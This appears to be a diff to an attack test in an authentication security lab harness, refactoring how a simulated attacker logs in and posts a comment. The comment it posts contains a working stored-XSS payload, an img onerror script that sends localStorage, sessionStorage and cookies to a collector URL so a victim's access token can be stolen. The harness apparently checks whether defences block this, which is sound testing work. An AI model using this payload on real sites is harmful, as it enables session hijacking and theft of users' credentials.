@@ -6,7 +6,7 @@
  */
 import { createServer } from 'node:http';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { blocked, defineAttack, worked } from '@authlab/lab-kit';
+import { blocked, defineAttack, postJson, worked } from '@authlab/lab-kit';
 
 export default defineAttack({
   title: "post a comment whose script sends alice's access token to mallory, then use it against the API",
@@ -32,18 +32,15 @@ export default defineAttack({
 
     try {
       // 1. mallory signs in to her own account and posts the comment.
-      const login = await fetch(`${lab.url}/api/login`, {
-        method: 'POST',
-        headers: { 'content-type': 'application/json' },
-        body: JSON.stringify({ username: 'mallory', password: 'mallory-was-here' }),
-      });
+      const login = await postJson(lab, '/api/login', { username: 'mallory', password: 'mallory-was-here' });
       const { access_token: malloryToken } = (await login.json()) as { access_token: string };
       const steal = `fetch('${collectorUrl}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookie: document.cookie }) })`;
-      const posted = await fetch(`${lab.url}/api/comments`, {
-        method: 'POST',
-        headers: { 'content-type': 'application/json', authorization: `Bearer ${malloryToken}` },
-        body: JSON.stringify({ text: `Nice board! <img src="/x" onerror="${steal}">` }),
-      });
+      const posted = await postJson(
+        lab,
+        '/api/comments',
+        { text: `Nice board! <img src="/x" onerror="${steal}">` },
+        { authorization: `Bearer ${malloryToken}` },
+      );
       if (posted.status !== 201) throw new Error(`mallory could not post her comment: ${posted.status}`);
 
       // 2. alice signs in and reads the board. Her page reports in its console what its CSP refuses:
